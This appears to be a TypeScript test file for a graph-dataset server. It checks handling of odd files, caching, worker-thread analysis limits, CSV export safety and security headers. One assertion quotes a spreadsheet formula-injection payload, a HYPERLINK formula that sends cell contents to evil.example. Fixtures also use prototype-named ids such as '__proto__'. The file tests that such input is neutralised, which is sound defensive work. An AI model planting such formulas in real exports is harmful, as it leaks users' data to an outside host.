// Issue 11's hostile cases against the server's handlers: odd files in graph-data/ (a dangling link, a looping link,
// a folder named x.json, a FIFO, "..json", a byte order mark, UTF-16, 100 KB of "[", a file past the size limit),
// datasets parsed once per file version, the analysis on a worker thread with its limits, cache and cancellation,
// CSV exports neutralised and saying what they leave out, and the security headers.
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { RequestEvent } from '@sveltejs/kit';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { handle, NON_PAGE_POLICY } from '../../src/hooks.server';
import type { LayerSpec } from '../../src/lib/analysis/layer';
import { activeAnalyses, runAnalysis } from '../../src/lib/server/analysis';
import { stopAllJobs } from '../../src/lib/server/jobs';
import { datasetText, exportOnWorker, listDatasets, loadDataset } from '../../src/lib/server/datasets';
import { GET as analysisRoute } from '../../src/routes/api/analysis/[id]/+server';
import { GET as listRoute } from '../../src/routes/api/datasets/+server';
import { GET as datasetRoute } from '../../src/routes/api/datasets/[id]/+server';
import { GET as exportRoute } from '../../src/routes/api/datasets/[id]/export/+server';
import { fixture } from './paths';

const dir = mkdtempSync(join(tmpdir(), 'hostile-graph-data-'));
const previous = process.env.GRAPH_DATA_DIR;
const hasMkfifo = spawnSync('mkfifo', ['--version']).status === 0;

function event(route: string, id: string, query = '', signal?: AbortSignal) {
	const url = new URL(`http://localhost${route}${query}`);
	return { params: { id }, url, request: new Request(url, { signal }) } as never;
}

beforeAll(() => {
	process.env.GRAPH_DATA_DIR = dir;
	copyFileSync(fixture('datasets', 'minimal.json'), join(dir, 'minimal.json'));
	copyFileSync(fixture('hostile', 'bom.json'), join(dir, 'bom.json'));
	copyFileSync(fixture('hostile', 'utf16.json'), join(dir, 'utf16.json'));
	copyFileSync(fixture('hostile', 'prototype-ids.json'), join(dir, 'prototype-ids.json'));
	copyFileSync(fixture('hostile', 'formula-cells.json'), join(dir, 'formula-cells.json'));
	copyFileSync(fixture('explorer-data', 'synthetic-ba-1200.json'), join(dir, 'synthetic-ba-1200.json'));
	copyFileSync(fixture('datasets', 'minimal.json'), join(dir, '..json'));
	writeFileSync(join(dir, 'brackets.json'), '['.repeat(100_000));
	symlinkSync(join(dir, 'missing-target.json'), join(dir, 'dangling.json'));
	symlinkSync(join(dir, 'loop.json'), join(dir, 'loop.json'));
	symlinkSync(fixture('datasets', 'minimal.json'), join(dir, 'linked.json'));
	mkdirSync(join(dir, 'folder.json'));
	writeFileSync(join(dir, 'huge.json'), '');
	truncateSync(join(dir, 'huge.json'), 51 * 1024 * 1024);
	if (hasMkfifo) spawnSync('mkfifo', [join(dir, 'fifo.json')]);
});

afterAll(() => {
	stopAllJobs();
	rmSync(dir, { recursive: true, force: true });
	if (previous === undefined) delete process.env.GRAPH_DATA_DIR;
	else process.env.GRAPH_DATA_DIR = previous;
});

const problemOf = (entries: Array<{ id: string; problems?: Array<{ message: string }> }>, id: string) => entries.find((entry) => entry.id === id)?.problems?.[0]?.message;

describe('6. odd files in graph-data/', () => {
	it('lists every dataset file at once, each odd one with what it is, and never a folder', async () => {
		const started = performance.now();
		const response = await listRoute({} as never);
		expect(response.status).toBe(200);
		expect(performance.now() - started).toBeLessThan(5_000);
		const entries = (await response.json()) as Array<{ id: string; nodes?: number; problems?: Array<{ message: string }> }>;
		expect(entries.map((entry) => entry.id)).toEqual([
			'.',
			'bom',
			'brackets',
			'dangling',
			...(hasMkfifo ? ['fifo'] : []),
			'formula-cells',
			'huge',
			'linked',
			'loop',
			'minimal',
			'prototype-ids',
			'synthetic-ba-1200',
			'utf16'
		]);
		expect(problemOf(entries, '.')).toBe('the file name gives the id ".", which cannot be used in a URL: rename the file so that it does not start with a dot');
		expect(problemOf(entries, 'dangling')).toBe('is a symbolic link to a file that does not exist');
		expect(problemOf(entries, 'loop')).toBe('is a symbolic link that loops');
		if (hasMkfifo) expect(problemOf(entries, 'fifo')).toBe('is a named pipe (FIFO), not a regular file');
		expect(problemOf(entries, 'huge')).toBe('the file is 51.0 MB; files over 50 MB are refused');
		expect(problemOf(entries, 'utf16')).toBe('is UTF-16 text (it starts with a UTF-16 byte order mark): save it as UTF-8');
		expect(problemOf(entries, 'brackets')).toBe('arrays and objects nested deeper than 100 levels are refused (a dataset needs 6 at most)');
		expect(entries.find((entry) => entry.id === 'bom')).toMatchObject({ nodes: 2 });
		expect(entries.find((entry) => entry.id === 'linked')).toMatchObject({ nodes: 3 });
	});

	it('answers 404 for a folder named x.json and 422 with what it is for a FIFO, a dangling link and "..json"', async () => {
		expect((await datasetRoute(event('/api/datasets/folder', 'folder'))).status).toBe(404);
		for (const id of ['dangling', 'loop', '.', 'utf16', ...(hasMkfifo ? ['fifo'] : [])]) {
			const response = await datasetRoute(event(`/api/datasets/${id}`, id));
			expect(response.status).toBe(422);
			expect((await response.json()).problems).toHaveLength(1);
		}
		expect((await datasetRoute(event('/api/datasets/bom', 'bom'))).status).toBe(200);
	});

	it('serves every request after a FIFO was listed (nothing waits on it)', async () => {
		const responses = await Promise.all(Array.from({ length: 8 }, () => datasetRoute(event('/api/datasets/fifo', 'fifo'))));
		expect(responses.map((response) => response.status)).toEqual(Array(8).fill(hasMkfifo ? 422 : 404));
		expect((await datasetRoute(event('/api/datasets/minimal', 'minimal'))).status).toBe(200);
	});
});

describe('1. datasets are parsed once per file version', () => {
	it('gives the same parsed dataset while the file is unchanged, and reads it again once it changes', async () => {
		const file = join(dir, 'changing.json');
		copyFileSync(fixture('datasets', 'minimal.json'), file);
		const first = await loadDataset('changing');
		expect((await loadDataset('changing'))!.dataset).toBe(first!.dataset);
		await listDatasets();
		expect((await loadDataset('changing'))!.dataset).toBe(first!.dataset);
		writeFileSync(file, JSON.stringify({ ...first!.dataset, meta: { ...first!.dataset!.meta, title: 'Changed' } }));
		utimesSync(file, new Date(), new Date(Date.now() + 5_000));
		const changed = await loadDataset('changing');
		expect(changed!.dataset).not.toBe(first!.dataset);
		expect(changed!.entry.title).toBe('Changed');
		expect(changed!.version).not.toBe(first!.version);
		rmSync(file);
	});

	it('lists ten 5 MB datasets fast once they have been read', async () => {
		const big = mkdtempSync(join(tmpdir(), 'big-graph-data-'));
		const nodes = Array.from({ length: 30_000 }, (_, i) => ({ id: `node-${i}`, label: `Node number ${i}`, type: 'state', description: 'x'.repeat(100) }));
		const text = JSON.stringify({ format: 'alliance-explorer/1', meta: { id: 'big', title: 'Big' }, nodes, edges: [] });
		expect(text.length).toBeGreaterThan(5_000_000);
		for (let i = 0; i < 10; i++) writeFileSync(join(big, `big-${i}.json`), text);
		const first = performance.now();
		expect(await listDatasets(big)).toHaveLength(10);
		const firstMs = performance.now() - first;
		const again = performance.now();
		expect((await listDatasets(big)).map((entry) => entry.nodes)).toEqual(Array(10).fill(30_000));
		const againMs = performance.now() - again;
		console.log(`listing ten 5.3 MB datasets: first ${Math.round(firstMs)} ms (parsing), then ${Math.round(againMs)} ms`);
		expect(againMs).toBeLessThan(firstMs / 10);
		// Read and validated on a worker thread: not kept here, served from the file, exported on a worker.
		const loaded = (await loadDataset('big-3', big))!;
		expect([loaded.dataset, loaded.entry.nodes]).toEqual([undefined, 30_000]);
		expect(await datasetText(loaded)).toBe(text);
		const exported = await exportOnWorker(loaded, 'csv', 'big-3', 'CSV');
		expect('files' in exported && exported.files.map((file) => [file.name, file.text.split('\r\n').length])).toEqual([
			['big-3.nodes.csv', 30_002],
			['big-3.edges.csv', 2]
		]);
		rmSync(big, { recursive: true, force: true });
	});
});

describe('4. the analysis runs on a worker thread within limits', () => {
	it('returns the summary computed off the request thread, cached per file version and options', async () => {
		const response = await analysisRoute(event('/api/analysis/prototype-ids', 'prototype-ids', '?broker=toString'));
		expect(response.status).toBe(200);
		const body = (await response.json()) as { nodes: Record<string, unknown>; broker: { broker: string } };
		expect(Object.keys(body.nodes)).toContain('__proto__');
		expect(body.broker.broker).toBe('toString');
		const again = analysisRoute(event('/api/analysis/prototype-ids', 'prototype-ids', '?broker=toString'));
		expect(activeAnalyses()).toBe(0);
		expect(await (await again).text()).toBe(JSON.stringify(body));
	});

	it('refuses a dataset past the size limit at once, saying what to run instead', async () => {
		process.env.ANALYSIS_MAX_NODES = '1000';
		const response = await analysisRoute(event('/api/analysis/synthetic-ba-1200', 'synthetic-ba-1200'));
		delete process.env.ANALYSIS_MAX_NODES;
		expect(response.status).toBe(413);
		expect((await response.json()).message).toMatch(/^Dataset "synthetic-ba-1200": the dataset has 1,200 nodes and [\d,]+ ties; the server analyses up to 1,000 nodes .*: run npm run analyze -- FILE for it$/);
	});

	it('stops a run past the time limit and says so', async () => {
		process.env.ANALYSIS_TIME_LIMIT_MS = '50';
		const response = await analysisRoute(event('/api/analysis/synthetic-ba-1200', 'synthetic-ba-1200', '?layer=all'));
		delete process.env.ANALYSIS_TIME_LIMIT_MS;
		expect(response.status).toBe(503);
		expect((await response.json()).message).toBe('Dataset "synthetic-ba-1200": the analysis took longer than 50 ms and was stopped: run npm run analyze -- FILE for it');
		expect(activeAnalyses()).toBe(0);
	});

	it('shares one run between identical requests, and stops it when every client has gone', async () => {
		const [a, b] = [new AbortController(), new AbortController()];
		const first = analysisRoute(event('/api/analysis/synthetic-ba-1200', 'synthetic-ba-1200', '?weighted=true', a.signal));
		const second = analysisRoute(event('/api/analysis/synthetic-ba-1200', 'synthetic-ba-1200', '?weighted=true', b.signal));
		await vi.waitFor(() => expect(activeAnalyses()).toBe(1));
		a.abort();
		await new Promise((resolve) => setTimeout(resolve, 20));
		expect(activeAnalyses()).toBe(1);
		b.abort();
		expect((await first).status).toBe(499);
		expect((await second).status).toBe(499);
		expect(activeAnalyses()).toBe(0);
	});

	it('answers 400 for a broker not in the dataset without starting a run', async () => {
		const response = await analysisRoute(event('/api/analysis/minimal', 'minimal', '?broker=hasOwnProperty'));
		expect([response.status, (await response.json()).message]).toEqual([400, 'broker: no node with id "hasOwnProperty" in "minimal"']);
	});
});

describe('5 and 10. exports: formula cells neutralised, what CSV leaves out said', () => {
	it('neutralises formula cells in the CSV export and names what CSV leaves out in a header', async () => {
		const response = await exportRoute(event('/api/datasets/formula-cells/export', 'formula-cells', '?format=csv&table=nodes'));
		const text = await response.text();
		expect(text).toContain(`n0,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
		expect(text.split('\r\n').every((line) => !/^[=+\-@\t\r]|,[=+\-@]/.test(line))).toBe(true);
		expect(response.headers.get('x-export-omits')).toBe('CSV (nodes.csv and edges.csv) leaves out: the meta (id, title; read back, the id and title come from the file name); 1 source; the source, locator and other fields of 8 evidence items (each quote is kept as text).');
		const json = await exportRoute(event('/api/datasets/formula-cells/export', 'formula-cells', '?format=json'));
		expect(json.headers.get('x-export-omits')).toBeNull();
	});
});

describe('7. security headers', () => {
	const resolved = (response: Response) => handle({ event: {} as RequestEvent, resolve: async () => response });

	it('adds nosniff, DENY framing, no referrer and a locked-down policy to responses that are not pages', async () => {
		const response = await resolved(new Response('{}', { headers: { 'content-type': 'application/json' } }));
		expect(Object.fromEntries(response.headers)).toMatchObject({
			'x-content-type-options': 'nosniff',
			'x-frame-options': 'DENY',
			'referrer-policy': 'no-referrer',
			'content-security-policy': NON_PAGE_POLICY
		});
	});

	it('keeps a page\'s own policy, and copies a response whose headers cannot change', async () => {
		const page = await resolved(new Response('<html></html>', { headers: { 'content-security-policy': "default-src 'self'" } }));
		expect(page.headers.get('content-security-policy')).toBe("default-src 'self'");
		const redirect = await resolved(Response.redirect('http://localhost/elsewhere', 302));
		expect([redirect.status, redirect.headers.get('location'), redirect.headers.get('x-frame-options')]).toEqual([302, 'http://localhost/elsewhere', 'DENY']);
	});
});

describe('shutting down', () => {
	it('answers every waiting client at once when the server stops', async () => {
		const { path, version, entry } = (await loadDataset('synthetic-ba-1200'))!;
		const layer: LayerSpec = { kind: 'all', domains: null, statuses: ['active'], measures: null, asOf: null, strength: 'max', weighted: true };
		const pending = runAnalysis({ path, version, nodes: entry.nodes!, edges: entry.edges!, layer, pairs: 30 });
		await vi.waitFor(() => expect(activeAnalyses()).toBe(1));
		const started = performance.now();
		stopAllJobs();
		expect(await pending).toEqual({ status: 503, message: 'the analysis was stopped: the server is shutting down' });
		expect(performance.now() - started).toBeLessThan(100);
		expect(activeAnalyses()).toBe(0);
	});
});
